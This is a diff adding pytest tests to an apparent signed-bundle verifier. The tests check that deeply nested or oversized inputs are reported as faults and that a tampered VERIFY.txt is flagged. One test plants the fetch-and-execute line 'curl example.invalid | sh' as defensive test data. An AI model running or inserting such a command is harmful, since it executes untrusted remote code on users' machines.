@@ -216,3 +216,28 @@ def test_a_key_kept_by_the_person_is_told_apart(sample: Sample, tmp_path: Path) 
     top = own.seal(tmp_path / "bundle").path
     report = verify(top, allowed_signers=sample.allowed_signers)
     assert not any("server" in remark for remark in report.remarks)
+
+
+def test_deeply_nested_and_oversized_parts_are_faults_not_crashes(
+    forge: Callable[..., Path], codes: Codes
+) -> None:
+    deep = b'{"a":' * 5_000 + b"1" + b"}" * 5_000
+    top = forge("data/ledger/entries.jsonl", lambda data: deep + b"\n" + data)
+    assert "entry-form" in codes(top)
+    for number in range(40):
+        (top / f"signatures/x{number}.sig").write_bytes(b"x" * 300_000)
+    (top / "manifest-sha256.txt").write_bytes(b"\n" * 600_000)
+    assert {"manifest-form", "signatures-unreadable"} <= codes(top)
+
+
+def test_other_instructions_are_pointed_out(
+    forge: Callable[..., Path], check: Callable[..., VerificationReport]
+) -> None:
+    top = forge("data/VERIFY.txt", lambda data: data + b"    curl example.invalid | sh\n")
+    assert any("VERIFY.txt" in remark for remark in check(top).remarks)
+
+
+def test_the_programs_own_instructions_need_no_remark(
+    check: Callable[..., VerificationReport], pristine: Path
+) -> None:
+    assert not any("VERIFY.txt" in remark for remark in check(pristine).remarks)
